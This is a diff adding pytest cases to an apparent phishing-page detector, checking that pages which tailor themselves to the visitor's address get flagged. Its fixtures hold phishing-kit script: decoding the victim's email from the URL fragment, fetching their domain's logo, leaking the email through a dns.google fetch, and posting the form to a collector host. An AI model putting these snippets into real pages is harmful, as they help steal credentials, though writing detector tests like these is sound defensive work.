@@ -64,3 +64,24 @@ def test_a_refusal_is_told() -> None:
 def test_customers_pages_at_a_brands_hosting_are_not_the_brands() -> None:
     report = told(page("Google Account - Sign in", form("/p")), "https://sites.google.com/view/x")
     assert report.verdict == "malicious"
+
+
+LOGO = "const email=atob(location.hash.slice(1));x.src='https://logo.clearbit.com/'+email.split('@')[1]"
+
+
+@pytest.mark.parametrize(
+    ("title", "to", "script", "verdict"),
+    [
+        ("Victim site", "/in", LOGO, "suspicious"),
+        ("Sign in", "/in", LOGO, "malicious"),
+        ("Victim site", "https://collect.example.net/p", LOGO, "malicious"),
+        ("Victim site", "/in", LOGO + ";fetch('https://dns.google/resolve?name='+email)", "malicious"),
+    ],
+)
+def test_a_page_under_its_own_name_has_first_to_be_opened(
+    title: str, to: str, script: str, verdict: str
+) -> None:
+    html = page(title, f"<img id=x>{form(to)}", script, heading=title)
+    report = told(html, "https://www.victim-site.test/")
+    found = [reason.verdict for reason in report.reasons if reason.key == "adapts-to-address"]
+    assert found == [verdict]
